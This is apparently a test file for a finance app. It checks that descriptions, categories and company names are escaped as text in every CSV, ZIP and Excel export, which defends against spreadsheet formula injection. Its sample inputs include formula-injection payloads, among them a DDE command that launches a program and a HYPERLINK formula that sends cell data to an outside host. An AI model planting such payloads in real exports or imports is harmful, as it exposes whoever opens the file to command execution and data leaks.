import { addDays } from '@caudal/finance';
import ExcelJS from 'exceljs';
import Papa from 'papaparse';
import { describe, expect, it } from 'vitest';
import yauzl from 'yauzl';
import { todayInMexicoCity } from '../../src/lib/clock.ts';
import { csvLines, neutraliseWorkbook, spreadsheetText } from '../../src/lib/spreadsheet-cells.ts';
import { signedInUser } from '../support/accounts.ts';
import { useTestApp } from '../support/app.ts';

// Issue 35: imported descriptions a spreadsheet would run as formulas (OWASP CSV injection) are
// text in every CSV and Excel file the app writes: a leading ' , numbers untouched.

const t = useTestApp();
type Headers = Record<string, string>;

/** The attacker's descriptions, as an import or a form would store them. */
const FORMULAS = [
  '=HYPERLINK("http://x"&A1,"clic")',
  '+SUM(1+1)',
  "-2+3+cmd|' /C calc'!A0",
  '@SUM(A1)',
];
const shown = (text: string) => `'${text}`;

describe('spreadsheetText', () => {
  it.each([
    ...FORMULAS.map((text) => [text, shown(text)]),
    ['\t=1+1', "'\t=1+1"],
    ['\r=1+1', "'\r=1+1"],
    ['=1+1\nsegunda línea', "'=1+1\nsegunda línea"],
    ['Venta de mostrador', 'Venta de mostrador'],
    ['Pan = rico', 'Pan = rico'],
    ["'=ya escapado", "'=ya escapado"],
    ['-120.50', '-120.50'],
    ['-1', '-1'],
    ['', ''],
  ])('%j → %j', (text, expected) => {
    expect(spreadsheetText(text)).toBe(expected);
  });

  it('CSV: text cells neutralised and quoted, numbers, dates and booleans as they are', () => {
    const text = csvLines(
      [['=1+1', -5, '-2+3', 12.5, true, '\t@x\nmás', 'Pan']],
      ['A', 'B', 'C', 'D', 'E', '@F', 'G'],
    );
    const [head, row] = Papa.parse<string[]>(text, { skipEmptyLines: true }).data;
    expect(head).toEqual(['A', 'B', 'C', 'D', 'E', "'@F", 'G']);
    expect(row).toEqual(["'=1+1", '-5', "'-2+3", '12.5', 'true', "'\t@x\nmás", 'Pan']);
    expect(text).toContain(`"'=1+1",-5,`);
  });

  it('Excel: every text cell of every sheet, rich text included; numbers stay numbers', async () => {
    const book = new ExcelJS.Workbook();
    const sheet = book.addWorksheet('Hoja');
    sheet.addRow(['+SUM(1+1)', -3, 'Normal', { richText: [{ text: '' }, { text: '=A1' }] }]);
    book.addWorksheet('Otra').addRow(['@SUM(A1)']);
    neutraliseWorkbook(book);
    const read = new ExcelJS.Workbook();
    await read.xlsx.load((await book.xlsx.writeBuffer()) as ArrayBuffer);
    const row = read.getWorksheet('Hoja')?.getRow(1);
    expect(row?.getCell(1).value).toBe("'+SUM(1+1)");
    expect(row?.getCell(2).value).toBe(-3);
    expect(row?.getCell(3).value).toBe('Normal');
    expect(row?.getCell(4).text).toBe("'=A1");
    expect(read.getWorksheet('Otra')?.getCell('A1').value).toBe("'@SUM(A1)");
  });
});

async function companyWithFormulas(): Promise<Headers> {
  const { headers } = await signedInUser(t, { company_name: FORMULAS[0] });
  const today = todayInMexicoCity();
  for (const [i, description] of FORMULAS.entries()) {
    const res = await t.app.inject({
      method: 'POST',
      url: '/api/cash-flow/entries',
      headers,
      payload: {
        date: addDays(today, -(i + 1)),
        type: i % 2 === 0 ? 'income' : 'expense',
        amount: 1000 + i,
        description,
        category: i === 3 ? '=Categoría' : 'Ventas',
      },
    });
    expect(res.statusCode, res.body).toBe(201);
  }
  return headers;
}

function csvRecords(body: string): Record<string, string>[] {
  expect(body.startsWith('\uFEFF')).toBe(true);
  const parsed = Papa.parse<Record<string, string>>(body.slice(1), {
    header: true,
    skipEmptyLines: true,
  });
  expect(parsed.errors).toEqual([]);
  return parsed.data;
}

async function unzip(body: Buffer): Promise<Map<string, string>> {
  const zip = await new Promise<yauzl.ZipFile>((resolve, reject) =>
    yauzl.fromBuffer(body, { lazyEntries: true }, (e, z) => (e ? reject(e) : resolve(z))),
  );
  const files = new Map<string, string>();
  await new Promise<void>((resolve, reject) => {
    zip.on('entry', (entry: yauzl.Entry) => {
      zip.openReadStream(entry, (e, stream) => {
        if (e) return reject(e);
        const chunks: Buffer[] = [];
        stream.on('data', (c: Buffer) => chunks.push(c));
        stream.on('end', () => {
          files.set(entry.fileName, Buffer.concat(chunks).toString('utf8'));
          zip.readEntry();
        });
      });
    });
    zip.on('end', resolve);
    zip.on('error', reject);
    zip.readEntry();
  });
  return files;
}

describe('every export neutralises formulas', () => {
  it('the cash-flow CSV: descriptions and categories as text, amounts as numbers', async () => {
    const headers = await companyWithFormulas();
    const res = await t.app.inject({ url: '/api/cash-flow/entries/export.csv', headers });
    expect(res.statusCode, res.body).toBe(200);
    const rows = csvRecords(res.body);
    expect(rows.map((r) => r.Descripción).sort()).toEqual(FORMULAS.map(shown).sort());
    expect(rows.map((r) => r.Categoría)).toContain("'=Categoría");
    expect(rows.map((r) => r.Monto).sort()).toEqual(['1000.00', '1001.00', '1002.00', '1003.00']);
  });

  it('the data download (ZIP): every table’s CSV, the company’s name included', async () => {
    const headers = await companyWithFormulas();
    const res = await t.app.inject({ url: '/api/account/data-export', headers });
    expect(res.statusCode, res.body).toBe(200);
    const files = await unzip(res.rawPayload);
    const entries = csvRecords(files.get('tablas/cash_flow_entries.csv') ?? '');
    expect(entries.map((r) => r.description).sort()).toEqual(FORMULAS.map(shown).sort());
    const companies = csvRecords(files.get('tablas/companies.csv') ?? '');
    expect(companies.map((r) => r.name)).toEqual([shown(FORMULAS[0] as string)]);
    // No text cell of any table starts a formula.
    for (const [name, body] of files) {
      if (!name.endsWith('.csv')) continue;
      for (const row of csvRecords(body)) {
        for (const value of Object.values(row)) {
          if (/^[=+@\t\r]|^-(?!\d+(\.\d+)?$)/.test(value)) expect.fail(`${name}: ${value}`);
        }
      }
    }
  });

  it('the report as CSV and as Excel: the company’s name as text, money as numbers', async () => {
    const headers = await companyWithFormulas();
    const generate = (format: string) =>
      t.app.inject({
        method: 'POST',
        url: '/api/reports/generate',
        headers,
        payload: { report_type: 'comprehensive', period_days: 30, format },
      });
    const csv = await generate('csv');
    expect(csv.statusCode, csv.body).toBe(200);
    const rows = csvRecords(csv.body);
    expect(rows.length).toBeGreaterThan(0);
    // Expense days have a negative cash flow: a number, not neutralised text.
    expect(rows.map((r) => r['Flujo de caja'])).toContain('-1001');

    const excel = await generate('excel');
    expect(excel.statusCode).toBe(200);
    const book = new ExcelJS.Workbook();
    await book.xlsx.load(excel.rawPayload as unknown as ArrayBuffer);
    const summary = book.getWorksheet('Resumen');
    const company = summary
      ?.getRows(2, summary.rowCount - 1)
      ?.find((r) => r.getCell(1).value === 'Empresa');
    expect(company?.getCell(2).value).toBe(shown(FORMULAS[0] as string));
    const texts: string[] = [];
    book.eachSheet((sheet) =>
      sheet.eachRow((row) =>
        row.eachCell((cell) => {
          if (typeof cell.value === 'string') texts.push(cell.value);
          if (typeof cell.value === 'number' && cell.value < 0) texts.push(String(cell.value));
        }),
      ),
    );
    expect(texts.filter((text) => /^[=+@\t\r]|^-[^\d]/.test(text))).toEqual([]);
  });
});
